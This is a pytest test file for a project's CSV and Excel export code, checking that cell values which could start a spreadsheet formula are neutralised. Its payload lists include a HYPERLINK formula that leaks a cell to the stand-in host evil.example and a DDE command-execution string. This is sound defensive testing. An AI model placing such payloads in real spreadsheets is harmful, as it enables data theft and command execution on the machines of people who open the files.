from __future__ import annotations

import csv
import datetime as dt
import io
import uuid
import zipfile
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from gatehouse import exports, uploads

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1,"Pay")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-5",
    "@SUM(1)",
    "|calc",
    "%0A=1",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tx",
    "  =1",
    '"=1"',
    "'=1",
    '" =1',
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\u3000=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\u22121",
]
# Where the list separator is a semicolon, quotes don't hold a cell of a file with commas together.
INSIDE = ["a;=1+1", "a; =1", "a\t=1", "a\n=1", "a\r\n@SUM(1)", 'a;"=1"', "a\n- b"]
MARKS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212")


def cells(content: bytes, separator: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=separator))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_of_a_csv_begins_as_a_formula(text: str) -> None:
    for row in cells(exports.to_csv(pd.DataFrame({text: [text]}))):
        assert row[0].startswith("'")
        assert row[0].replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", INSIDE)
def test_nor_where_the_separator_is_another(text: str) -> None:
    content = exports.to_csv(pd.DataFrame({"a": ["x"], "b": [text]})).decode("utf-8-sig")
    # The worst reading: quotes mean nothing, and every separator and line break begins a cell.
    for cell in content.replace('"', "").replace("\r", "\n").replace("\t", "\n").replace(";", "\n").split("\n"):
        assert not cell.strip().startswith(MARKS), cell


@pytest.mark.parametrize("text", ["plain", "a - b", "a=b", "me@example.com", "Größe", "3 + 4", 'said "yes"', ""])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert cells(exports.to_csv(pd.DataFrame({"a": [text]})))[1] == [text]


def test_numbers_dates_and_gaps_of_a_csv() -> None:
    frame = pd.DataFrame(
        {
            "whole": [-5, 7],
            "part": [-1.5, None],
            "money": [Decimal("-12.30"), None],
            "day": [dt.date(2026, 1, 31), None],
            "moment": pd.to_datetime(pd.Series(["2026-01-31T09:00+01:00", None]), utc=True),
            "flag": [True, False],
            "list": [["=1"], None],
        }
    )
    assert cells(exports.to_csv(frame))[1:] == [
        ["-5", "-1.5", "-12.30", "2026-01-31", "2026-01-31 08:00:00", "True", "['=1']"],
        ["7", "", "", "", "", "False", ""],
    ]


def test_excel_knows_the_csv_for_utf_8() -> None:
    assert exports.to_csv(pd.DataFrame({"a": ["ü"]})).startswith(b"\xef\xbb\xbf")


def test_half_a_character_and_nul_do_no_harm() -> None:
    frame = pd.DataFrame({"a": pd.Series(["x\ud800\0"], dtype=object)})
    assert cells(exports.to_csv(frame))[1] == ["x?"]
    assert sheet(exports.to_xlsx(frame))["A2"].value == "x?"


def sheet(content: bytes) -> Worksheet:
    opened = openpyxl.load_workbook(io.BytesIO(content)).active
    assert isinstance(opened, Worksheet)
    return opened


@pytest.mark.parametrize("text", [*FORMULAS, *INSIDE, "http://evil.example", "#REF!"])
def test_text_of_a_workbook_is_text_exactly_as_it_was(text: str) -> None:
    content = exports.to_xlsx(pd.DataFrame({text: pd.Series([text], dtype=object)}))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not any(
            b"<f>" in archive.read(name) or b"hyperlink" in archive.read(name) for name in archive.namelist()
        )
    for place in ("A1", "A2"):
        cell = sheet(content)[place]
        assert (cell.data_type, cell.hyperlink, cell.quotePrefix) == ("s", None, True)
        assert cell.value is not None
        assert cell.value == text.replace("\r\n", "\n").replace("\r", "\n")  # as XML does it


def test_numbers_and_dates_of_a_workbook_stay_so() -> None:
    frame = pd.DataFrame(
        {
            "whole": [-5, 7],
            "part": [-1.5, None],
            "money": [Decimal("12.30"), None],
            "day": [dt.date(2026, 1, 31), None],
            "moment": pd.to_datetime(pd.Series(["2026-01-31T09:00+01:00", None])),
            "flag": [True, False],
            "id": [uuid.UUID(int=1), None],
            "endless": [float("inf"), 0.0],
        }
    )
    first, second = list(sheet(exports.to_xlsx(frame)).values)[1:]
    assert first == (
        -5,
        -1.5,
        12.3,
        dt.datetime(2026, 1, 31),  # noqa: DTZ001 -- Excel knows no zones
        dt.datetime(2026, 1, 31, 9),  # noqa: DTZ001
        True,
        str(uuid.UUID(int=1)),
        "inf",
    )
    assert second == (7, None, None, None, None, False, None, 0)


def test_text_longer_than_a_cell_is_cut_and_says_so() -> None:
    value = sheet(exports.to_xlsx(pd.DataFrame({"a": ["x" * 40_000]})))["A2"].value
    assert isinstance(value, str)
    assert len(value) == 32_767
    assert value.endswith("…")


def test_more_rows_than_a_sheet_holds_are_refused() -> None:
    with pytest.raises(ValueError, match="1,048,575 rows"):
        exports.to_xlsx(pd.DataFrame({"a": range(1_048_576)}))


def test_an_export_can_be_read_in_again() -> None:
    frame = pd.DataFrame({"item": ["Chair", "=1+1"], "amount": [1.5, -2]})
    back = uploads.check(exports.to_xlsx(frame), uploads.Xlsx(), name="a.xlsx").frame
    assert back.to_dict("records") == frame.to_dict("records")
    assert uploads.check(exports.to_csv(frame), uploads.Csv(), name="a.csv").frame["amount"].tolist() == [1.5, -2]
